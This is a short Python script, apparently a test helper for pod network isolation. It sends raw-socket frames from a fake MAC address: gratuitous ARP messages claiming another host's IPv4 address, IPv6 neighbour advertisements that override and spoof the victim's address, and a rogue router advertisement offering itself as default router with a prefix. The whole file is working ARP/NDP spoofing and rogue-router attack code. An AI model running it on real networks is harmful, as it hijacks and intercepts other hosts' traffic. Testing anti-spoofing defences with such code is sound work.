# Says of itself what another pod is: argv is the pod's link, then what is claimed: IPv4 and IPv6 address. Frames come
# from a MAC address that is not the link's.
import socket, struct, sys

link, v4, v6 = sys.argv[1], sys.argv[2], sys.argv[3]
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
raw.bind((link, 0))
mac = bytes.fromhex("02deadbeef01")
everybody = b"\xff" * 6


def arp(op, target):
    me = socket.inet_aton(v4)
    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, op) + mac + me + target + socket.inet_aton(v4)
    raw.send(everybody + mac + b"\x08\x06" + body)


def icmp6(source, destination, body):
    source, destination = (socket.inet_pton(socket.AF_INET6, a) for a in (source, destination))
    pseudo = source + destination + struct.pack("!II", len(body), 58)
    total = sum(struct.unpack("!%dH" % ((len(pseudo) + len(body)) // 2), pseudo + body))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    body = body[:2] + struct.pack("!H", ~total & 0xFFFF) + body[4:]
    header = struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + source + destination
    raw.send(b"\x33\x33\x00\x00\x00\x01" + mac + b"\x86\xdd" + header + body)


target = socket.inet_pton(socket.AF_INET6, v6)
own_mac = b"\x02\x01" + mac
advertised = b"\x03\x04\x40\xc0" + struct.pack("!III", 3600, 3600, 0)
advertised += socket.inet_pton(socket.AF_INET6, "2001:db8:bad::")
for _ in range(3):
    arp(1, b"\0" * 6)  # a gratuitous request and a gratuitous reply
    arp(2, mac)
    # A neighbour advertisement that overrides, from itself and in the other's name.
    advertisement = b"\x88\0\0\0" + b"\x20\0\0\0" + target + own_mac
    icmp6("fe80::bad", "ff02::1", advertisement)
    icmp6(v6, "ff02::1", advertisement)
    # A router that is the way to everywhere, and has a prefix to give.
    icmp6("fe80::bad", "ff02::1", b"\x86\0\0\0" + struct.pack("!BBHII", 64, 0, 1800, 0, 0) + advertised)
